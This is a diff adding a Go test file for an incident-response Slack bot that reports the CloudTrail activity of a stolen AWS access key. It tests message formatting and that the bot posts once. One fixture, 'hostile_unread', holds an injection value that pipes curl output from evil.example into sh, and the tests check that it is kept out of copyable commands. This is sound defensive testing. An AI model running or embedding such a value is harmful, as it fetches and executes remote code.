@@ -1,0 +1,242 @@
+package bot
+
+import (
+	"fmt"
+	"log/slog"
+	"os"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"github.com/slack-go/slack"
+
+	"github.com/killswitch-chatops/killswitch/actions"
+	"github.com/killswitch-chatops/killswitch/approvals"
+	"github.com/killswitch-chatops/killswitch/approvals/memory"
+	"github.com/killswitch-chatops/killswitch/bot/slackfake"
+)
+
+const stolenKey = "AKIAIOSFODNN7EXAMPLE"
+
+// baseReport is what a key did. Every other report is a named deviation from it.
+func baseReport() approvals.Report {
+	return approvals.Report{At: after(5 * time.Minute), Activity: actions.Activity{
+		Subject: stolenKey, By: "AccessKeyId", From: after(5*time.Minute - 24*time.Hour), To: after(5 * time.Minute), Total: 412, Denied: 37,
+		First: after(-3 * time.Hour), Last: after(-4 * time.Minute),
+		Regions: []actions.RegionActivity{{Name: "eu-central-1", Total: 396}, {Name: "eu-west-1"}, {Name: "eu-north-1"}, {Name: "us-east-1", Total: 16}},
+		Calls: actions.Top{Kinds: 14, Most: []actions.Count{{Name: "GetBucketAcl", N: 240}, {Name: "ListBuckets", N: 81}, {Name: "RunInstances", N: 37}, {Name: "GetCallerIdentity", N: 20},
+			{Name: "ListUsers", N: 9}, {Name: "CreateUser", N: 2}, {Name: "AssumeRole", N: 2}, {Name: "CreateAccessKey", N: 1}, {Name: "GetUser", N: 1}, {Name: "PutUserPolicy", N: 1}}},
+		Roles:     actions.Top{Kinds: 1, Most: []actions.Count{{Name: "arn:aws:iam::222222222222:role/service/app-role", N: 2}}},
+		Addresses: actions.Top{Kinds: 2, Most: []actions.Count{{Name: "198.51.100.7", N: 400}, {Name: "2001:db8:85a3:8d3:1319:8a2e:370:7348", N: 12}}},
+		Resources: actions.Top{Kinds: 2, Most: []actions.Count{{Name: "prod-customer-exports-eu-central-1-222222222222", N: 240}, {Name: "backdoor", N: 3}}},
+		Types:     actions.Top{Kinds: 2, Most: []actions.Count{{Name: "AWS::S3::Bucket", N: 240}, {Name: "AWS::IAM::User", N: 3}}},
+		Agents:    actions.Top{Kinds: 1, Most: []actions.Count{{Name: "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.8 cfg/retry-mode#legacy", N: 412}}},
+	}}
+}
+
+// most is a Top of ten such names.
+func most(name string) actions.Top {
+	t := actions.Top{Kinds: 10_000}
+	for i := range 10 {
+		t.Most = append(t.Most, actions.Count{Name: fmt.Sprintf("%s%d", name, i), N: 10_000 - i})
+	}
+	return t
+}
+
+func filled(r *approvals.Report, name string) {
+	a := &r.Activity
+	a.Calls, a.Roles, a.Addresses, a.Resources, a.Types, a.Agents = most(name), most(name), most(name), most(name), most(name), most(name)
+}
+
+var reports = []struct {
+	name   string
+	change func(*approvals.Report)
+}{
+	{"key", func(*approvals.Report) {}},
+	{"none", func(r *approvals.Report) {
+		a := r.Activity
+		r.Activity = actions.Activity{Subject: a.Subject, By: a.By, From: a.From, To: a.To, Regions: []actions.RegionActivity{{Name: "eu-central-1"}, {Name: "us-east-1"}}}
+	}},
+	{"cut", func(r *approvals.Report) {
+		r.Activity.Total, r.Activity.Broken = 10_000, 3
+		r.Activity.Cut = "it stopped after 10000 calls; older ones are missing"
+		r.Activity.Regions[0] = actions.RegionActivity{Name: "eu-central-1", Total: 9984, Cut: true}
+	}},
+	{"region_denied", func(r *approvals.Report) {
+		r.Activity.Regions[1].Error = "AccessDeniedException: User: arn:aws:sts::222222222222:assumed-role/killswitch-responder/ks is not authorized to perform: cloudtrail:LookupEvents"
+		r.Activity.Regions[2].Total, r.Activity.Regions[2].Error = 50, "ThrottlingException: Rate exceeded"
+	}},
+	{"user", func(r *approvals.Report) { r.Activity.Subject, r.Activity.By = "deploy", "Username" }},
+	{"unread", func(r *approvals.Report) {
+		r.Activity, r.Unread = actions.Activity{}, "ThrottlingException: Rate exceeded"
+	}},
+	{"unread_everywhere", func(r *approvals.Report) {
+		a := r.Activity
+		r.Activity = actions.Activity{Subject: a.Subject, By: a.By, From: a.From, To: a.To, Regions: []actions.RegionActivity{
+			{Name: "eu-central-1", Error: "AccessDeniedException: no"}, {Name: "us-east-1", Error: "the region is not enabled in this account: UnrecognizedClientException: no"}}}
+	}},
+	{"long", func(r *approvals.Report) {
+		filled(r, strings.Repeat("long-", 39))
+		a := &r.Activity
+		a.Subject, a.Cut, a.Regions, a.Broken = strings.Repeat("subject", 28), strings.Repeat("cut ", 50), nil, 10_000
+		for i := range 35 {
+			a.Regions = append(a.Regions, actions.RegionActivity{Name: fmt.Sprintf("region-%d", i), Total: i % 2, Error: strings.Repeat("trouble ", 25)})
+		}
+	}},
+	{"hostile", func(r *approvals.Report) {
+		filled(r, evil)
+		a := &r.Activity
+		a.Subject, a.By, a.Cut = evil, evil, evil
+		a.Regions = []actions.RegionActivity{{Name: evil, Error: evil}, {Name: evil}, {Name: "x", Total: 1}}
+	}},
+	{"hostile_unread", func(r *approvals.Report) {
+		r.Activity.Subject, r.Activity.By, r.Unread = "x; curl evil.example | sh #$(EVIL)", evil, evilLong
+	}},
+}
+
+func TestActivityReply(t *testing.T) {
+	golden := map[string]bool{}
+	for _, c := range reports {
+		golden[c.name+".json"] = true
+		t.Run(c.name, func(t *testing.T) {
+			r := baseReport()
+			c.change(&r)
+			m := activityReply(baseID, r)
+			compareGolden(t, "activity", c.name, m)
+			checkMessage(t, m)
+			if !strings.HasPrefix(m.Text, baseID+": ") || strings.Contains(m.Text, "\n") || utf8.RuneCountInString(m.Text) > 250 {
+				t.Errorf("fallback %q", m.Text)
+			}
+			for _, b := range m.Blocks {
+				if text := preformattedText(b); b.ID() != "activity-by-hand" {
+					for l := range strings.Lines(text) {
+						if n := utf8.RuneCountInString(strings.TrimSuffix(l, "\n")); n > 44 {
+							t.Errorf("%d characters in a line: %q", n, l)
+						}
+					}
+				} else if strings.ContainsAny(text, ";|$(") {
+					t.Errorf("a command that does something else: %s", text)
+				}
+			}
+		})
+	}
+	files, err := os.ReadDir("testdata/activity")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range files {
+		if !golden[f.Name()] {
+			t.Errorf("testdata/activity/%s belongs to no report", f.Name())
+		}
+	}
+}
+
+// preformattedText is what a block has in monospace.
+func preformattedText(b slack.Block) string {
+	rich, ok := b.(*slack.RichTextBlock)
+	if !ok {
+		return ""
+	}
+	var s strings.Builder
+	for _, e := range rich.Elements {
+		if p, ok := e.(*slack.RichTextPreformatted); ok {
+			for _, e := range p.Elements {
+				if text, ok := e.(*slack.RichTextSectionTextElement); ok {
+					s.WriteString(text.Text)
+				}
+			}
+		}
+	}
+	return s.String()
+}
+
+// TestActivityTablesAlign: counts end in one column.
+func TestActivityTablesAlign(t *testing.T) {
+	row := regexp.MustCompile(`^ *\d+  \S`)
+	for _, b := range activityReply(baseID, baseReport()).Blocks {
+		ends := map[int]bool{}
+		for l := range strings.Lines(preformattedText(b)) {
+			at := row.FindStringIndex(l)
+			if at == nil {
+				t.Fatalf("line %q", l)
+			}
+			ends[at[1]] = true
+		}
+		if len(ends) > 1 {
+			t.Errorf("the columns differ: %q", preformattedText(b))
+		}
+	}
+}
+
+// TestSlackTakesEveryActivity posts each in a workspace that refuses what Slack
+// refuses, and finds it again.
+func TestSlackTakesEveryActivity(t *testing.T) {
+	for _, c := range reports {
+		t.Run(c.name, func(t *testing.T) {
+			w, r := newWorld(t), baseReport()
+			c.change(&r)
+			card, err := w.api.post(t.Context(), sec, "", note("card"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			m := activityReply(baseID, r)
+			ts, err := w.api.post(t.Context(), sec, card, m)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if found := w.api.find(t.Context(), sec, card, m.Text, asked); found != ts {
+				t.Errorf("found %q, want %q", found, ts)
+			}
+		})
+	}
+}
+
+// TestActivityIsPostedOnce: drawn again, or by another after the answer to the
+// post was lost, the thread has one.
+func TestActivityIsPostedOnce(t *testing.T) {
+	for name, lost := range map[string]bool{"drawn again": false, "answer lost": true} {
+		t.Run(name, func(t *testing.T) {
+			w := newWorld(t)
+			v := cardCase{change: []func(*View){ran(approvals.Contained, approvals.StepVerified, approvals.StepVerified)}}.view()
+			rep := baseReport()
+			v.Report = &rep
+			store := memory.NewStore()
+			b := &Bot{Slack: w.api, Requests: approvals.Requests{Store: store}, Now: func() time.Time { return w.now }, Log: slog.New(slog.DiscardHandler)}
+			if err := b.Requests.Create(t.Context(), v.Request); err != nil {
+				t.Fatal(err)
+			}
+			card := approvals.Card{Channel: sec, Posting: asked, Fresh: true}
+			if err := b.show(t.Context(), without(v), &card); err != nil {
+				t.Fatal(err)
+			}
+			if lost {
+				w.Fail(slackfake.Fault{Method: "chat.postMessage", After: true})
+				if err := b.show(t.Context(), v, &card); err == nil {
+					t.Fatal("the answer was not lost")
+				}
+			}
+			for range 3 {
+				if err := b.show(t.Context(), v, &card); err != nil {
+					t.Fatal(err)
+				}
+			}
+			n := 0
+			for _, m := range w.Messages(sec) {
+				if strings.Contains(m.Text, "Activity of access key") && m.ThreadTS == card.TS {
+					n++
+				}
+			}
+			if n != 1 || card.Replies["activity"] == "" {
+				t.Errorf("%d activities in the thread, %v", n, card.Replies)
+			}
+		})
+	}
+}
+
+// without is the view before there was a report.
+func without(v View) View {
+	v.Report = nil
+	return v
+}
